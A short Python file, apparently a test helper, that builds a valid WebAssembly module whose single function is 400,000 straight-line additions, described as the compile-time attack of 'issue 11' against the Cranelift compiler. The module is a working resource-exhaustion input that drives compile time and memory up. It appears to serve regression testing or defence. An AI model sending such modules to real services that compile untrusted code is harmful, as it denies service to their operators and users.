"""The compile-time attack of issue 11: one long straight-line function.

Cranelift's time and memory grow with a function's length: 400,000 additions (2.8 MB) take
about 4 s and 650 MB of address space to compile on the reference machine, where the
issue's 29 MB module took 26-78 s and 1.2 GB. Built byte by byte, in well under a second.
"""

from __future__ import annotations

# local.get 0; i32.const N; i32.add; local.set 0
_STEP = b"\x20\x00\x41%c\x6a\x21\x00"
ATTACK_INSTRUCTIONS = 400_000


def _leb(value: int) -> bytes:
    out = bytearray()
    while True:
        byte, value = value & 0x7F, value >> 7
        if not value:
            return bytes(out + bytes([byte]))
        out.append(byte | 0x80)


def _section(section_id: int, payload: bytes) -> bytes:
    return bytes([section_id]) + _leb(len(payload)) + payload


def straight_line_module(instructions: int = ATTACK_INSTRUCTIONS) -> bytes:
    """A valid module exporting ``check: () -> ()`` whose one function is ``instructions`` adds."""
    body = b"".join(_STEP % (i & 0x3F) for i in range(instructions))
    code = b"\x01\x01\x7f" + body + b"\x0b"  # one i32 local, the body, end
    return (
        b"\0asm\x01\0\0\0"
        + _section(1, b"\x01\x60\x00\x00")  # type 0: () -> ()
        + _section(3, b"\x01\x00")  # function 0 has type 0
        + _section(7, b"\x01\x05check\x00\x00")  # export "check" = function 0
        + _section(10, b"\x01" + _leb(len(code)) + code)
    )
